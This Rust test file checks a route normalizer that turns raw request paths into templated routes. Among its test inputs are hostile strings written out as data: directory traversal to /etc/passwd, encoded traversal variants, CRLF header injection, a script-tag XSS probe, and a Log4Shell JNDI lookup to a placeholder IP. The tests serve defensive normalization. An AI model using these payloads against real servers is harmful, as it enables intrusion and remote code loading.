//! Does a raw path become the route that one expects?

use ron_accounting_core::{Label, Normalizer, Verdict};
use ron_accounting_normalize::RouteNormalizer;

fn route(raw: &str) -> (Verdict, String) {
    let mut out = String::new();
    let verdict = RouteNormalizer::new().normalize(Label::Route, raw, &mut out);
    (verdict, out)
}

fn assert_table(table: &[(&str, &str)]) {
    for &(raw, expected) in table {
        let (verdict, out) = route(raw);
        assert_eq!(out, expected, "route of {raw:?}");
        let expected_verdict = if raw == expected { Verdict::Clean } else { Verdict::Changed };
        assert_eq!(verdict, expected_verdict, "verdict on {raw:?}");
    }
}

#[test]
fn words_and_files_stay() {
    for raw in [
        "/",
        "/v1/feed",
        "/v1/objects/:id",
        "/v1/objects/:id/versions/:version_2",
        "/files/*rest",
        "/v1/objects:batchGet",
        "/style2.css",
        "/favicon.ico",
        "/robots.txt",
        "/wp-login.php",
        "/jquery-3.7.1.min.js",
        "/head.min.js",
        "/images/kibana3-4map.png",
        "/images/jordan-80.png",
        "/logo@2x.png",
        "/npm/lodash@4.17.21/lodash.js",
        "/@types/node",
        "/blog/tags/c++grok",
        "/blog/tags/firewall%20bypass",
        "/blog/tags/X11",
        "/blog/geekery/year-in-review-2008.html",
        "/blog/geekery/solaris-10-sshd-publickey-solution.html",
        "/blog/geekery/Kyocera-KPC650-EVDO-in-FreeBSD.html",
        "/blog/geekery/fedora-9-subversion-1.5.html",
        "/blog/geekery/installing-windows-8-consumer-preview.html",
        "/presentations/logstash-monitorama-2013/images/kibana-search.png",
        "/presentations/logstash-puppetconf-2012/images/kibana-chef-hits-6min-each.png",
        "/presentations/logstash-scale11x/images/ahhh___rage_face_by_samusmmx-d5g5zap.png",
        "/css/fonts/OpenSans-BoldItalic.woff2",
        "/images/TF2-Pyro-Burn-Everything.jpg",
        "/api/getUserProfileByEmailAddress",
        "/oauth2/v2.0/authorize",
        "/x86_64-unknown-linux-gnu/release",
        "/deadbeef/effaced/facade",
        "/.well-known/acme-challenge",
        "/:face2face",
        "/A1-b2-C3-d4-E5-f6",
        "/~psionic/projects/config.xml",
        "/acme.billing.v1.Invoices/List",
        "/stra%C3%9Fe",
    ] {
        assert_eq!(route(raw), (Verdict::Clean, raw.to_owned()));
    }
}

#[test]
fn values_become_placeholders() {
    assert_table(&[
        ("/users/42", "/users/:num"),
        ("/users/-7", "/users/:num"),
        ("/price/19.99", "/price/:num"),
        ("/tel/555-123-4567", "/tel/:num"),
        ("/blog/2004/May/03", "/blog/:num/May/:num"),
        ("/orders/20240131", "/orders/:num"),
        ("/o/6fa459ea-ee8a-3ca4-894e-db77e160355e", "/o/:uuid"),
        ("/o/6FA459EA-EE8A-3CA4-894E-DB77E160355E/x", "/o/:uuid/x"),
        ("/o/01ARZ3NDEKTSV4RRFFQ69G5FAV", "/o/:ulid"),
        ("/o/01arz3ndektsv4rrffq69g5fav", "/o/:ulid"),
        ("/git/commit/3fa9c81d", "/git/commit/:hex"),
        ("/git/commit/2fd4e1c67a2d28fced849ee1bb76e7391b93eb12", "/git/commit/:hex"),
        ("/k/abcdefabcdefabcdef", "/k/:hex"),
        ("/k/0xdeadbeef01", "/k/:hex"),
        ("/watch/dQw4w9WgXcQ", "/watch/:token"),
        ("/s/V1StGXR8_Z5jdHi6B-myT", "/s/:token"),
        ("/c/cjld2cjxh0000qzrmn831i7rn", "/c/:token"),
        ("/p/price_1MoBy5LkdIwHu7ixZhnattbh", "/p/price_:token"),
        ("/t/c2Vzc2lvbi1mb3ItYWxpY2U9", "/t/:token"),
        ("/d/2024-01-31", "/d/:date"),
        ("/d/2024_01_31", "/d/:date"),
        ("/d/2024-01-31T12:34:56.789Z", "/d/:date"),
        ("/d/2024-01-31T12%3A34%3A56+01:00", "/d/:date"),
        ("/d/20240131T123456Z", "/d/:date"),
        ("/d/2024-13-31", "/d/:num"),
        ("/u/alice@example.com", "/u/:email"),
        ("/u/alice%40example.com/inbox", "/u/:email/inbox"),
        ("/u/alice+tag@mail.example.co.uk", "/u/:email"),
        ("/u/mailto:alice@163.com", "/u/:email"),
        ("/@alice@social.example", "/:email"),
        ("/ip/192.168.0.1", "/ip/:ip"),
        ("/ip/192.168.0.1:8080", "/ip/:ip"),
        ("/ip/2001:db8::1", "/ip/:ip"),
        ("/ip/%5B2001%3Adb8%3A%3A1%5D:443", "/ip/:ip"),
        ("/ip/fe80::1%25eth0", "/ip/:ip"),
    ]);
}

#[test]
fn values_among_words_become_placeholders() {
    assert_table(&[
        ("/blog/site/183.html", "/blog/site/:num.html"),
        ("/article-12345.html", "/article-:num.html"),
        ("/img_0001.png", "/img_:num.png"),
        ("/img_001.png", "/img_001.png"),
        ("/user12345", "/user:num"),
        ("/backup-2024-01-31.tar.gz", "/backup-:date.tar.gz"),
        ("/blog/geekery/xdotool-2.20110530.html", "/blog/geekery/xdotool-2.:num.html"),
        ("/static/main.3fa9c81d.js", "/static/main.:hex.js"),
        ("/static/COPYRIGHT-7fb11f4e.txt", "/static/COPYRIGHT-:hex.txt"),
        ("/i-0abcd1234ef567890", "/i-:hex"),
        ("/report-6fa459ea-ee8a-3ca4-894e-db77e160355e.pdf", "/report-:uuid.pdf"),
        ("/logs/host-10.1.2.3.log", "/logs/host-:ip.log"),
        ("/css/fonts/PRmiXeptR36kaC0GEAetxp_TkvowlIOtbR7ePgFOpF4.ttf", "/css/fonts/:token.ttf"),
        ("/css/fonts/cJZKeOuBrn4kERxqtaUH3aCWcynf_cDxXwCLxiixG1c.ttf", "/css/fonts/:token.ttf"),
        ("/x-12345678901234567890123456", "/x-:num"),
        ("/caf%C3%A912345", "/caf%C3%A9:num"),
    ]);
}

#[test]
fn request_targets_are_reduced_to_their_path() {
    assert_table(&[
        ("*", "*"),
        ("example.com:443", ":authority"),
        ("[2001:db8::1]:443", ":authority"),
        ("http://example.com", "/"),
        ("http://example.com?q=1", "/"),
        ("https://alice:secret@example.com:8080/a/42?token=x#y", "/a/:num"),
        ("/search?q=alice@example.com&page=2", "/search"),
        ("/page#section-4", "/page"),
        ("?C=M;O=A", "/"),
        ("v1/feed", "/v1/feed"),
        ("  /v1/feed\t", "/v1/feed"),
        ("//favicon.ico", "/favicon.ico"),
        ("///", "/"),
        ("/about/", "/about"),
        ("/proxy/http://evil.example/x", "/proxy/http:/evil.example/x"),
    ]);
}

#[test]
fn dot_segments_cannot_escape() {
    assert_table(&[
        ("/a/./b/../c", "/a/c"),
        ("/../../etc/passwd", "/etc/passwd"),
        ("/a/%2e%2e/%2E%2E/etc/passwd", "/etc/passwd"),
        ("/a/.%2e/b", "/b"),
        ("/a/..;/b", "/b"),
        ("/a/..;x=1/../b", "/b"),
        ("/a/..%3B/b", "/b"),
        ("/a/b/..", "/a"),
        ("/..", "/"),
        ("/a//../b", "/b"),
        ("/a/.../b", "/a/.../b"),
        ("/..%2f..%2fetc/passwd", "/:path/passwd"),
        ("/..%5c..%5cwindows/win.ini", "/:path/win.ini"),
        ("/..\\..\\windows/win.ini", "/:path/win.ini"),
        ("/%252e%252e/%252e%252e/etc", "/:invalid/:invalid/etc"),
        ("/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "/:invalid/:invalid/etc/passwd"),
    ]);
}

#[test]
fn encoding_is_normalized() {
    assert_table(&[
        ("/%41%7e%2D", "/A~-"),
        ("/a%2bb%3d", "/a%2Bb%3D"),
        ("/stra\u{df}e", "/stra%C3%9Fe"),
        ("/stra%c3%9fe", "/stra%C3%9Fe"),
        ("/two words", "/two%20words"),
        ("/Feed", "/Feed"),
        ("/50%", "/:invalid"),
        ("/50%zz", "/:invalid"),
        ("/50%25", "/50%25"),
        ("/50%2541", "/:invalid"),
        ("/%ff%fe", "/:invalid"),
        ("/a%00.php", "/:invalid"),
        ("/a%0d%0aSet-Cookie:x", "/:invalid"),
        ("/a\u{202e}gpj.exe", "/:invalid"),
        ("/a%E2%80%8Bb", "/:invalid"),
        ("/a\u{fffd}b", "/:invalid"),
        ("/a\nb", "/:invalid"),
    ]);
}

#[test]
fn what_frameworks_and_scanners_send() {
    assert_table(&[
        ("/v1/objects/{id}", "/v1/objects/:id"),
        ("/v1/objects/{id}:undelete", "/v1/objects/:id:undelete"),
        ("/v1/{name}.json", "/v1/:name.json"),
        ("/files/{*rest}", "/files/*rest"),
        ("/a/b;jsessionid=1A530637289A03B07199A44E8D531427", "/a/b"),
        ("/a/;x=1/b", "/a/b"),
        ("/api/v4/projects/group%2Fproject/issues", "/api/v4/projects/:path/issues"),
        ("/projects/xdotool%3E", "/projects/:text"),
        ("/<script>alert(1)<", "/:text"),
        ("/${jndi:ldap://198.51.100.7/a}", "/:text/:ip/:text"),
        ("/cgi-bin/luci/;stok=/locale", "/cgi-bin/luci/locale"),
        ("/projects/xdotool/+++++Result:+chosen+nickname+%22awarovadoms%22;sent;", "/projects/xdotool/:text"),
        ("/:2024-secret", "/:2024-secret"),
        ("/:id12345678", "/:id:num"),
    ]);
}

#[test]
fn words_for_a_whole_route_stay() {
    for raw in ["", "~overflow", "~invalid", "~redacted", "*", ":unmatched", ":authority"] {
        assert_eq!(route(raw), (Verdict::Clean, raw.to_owned()));
    }
}
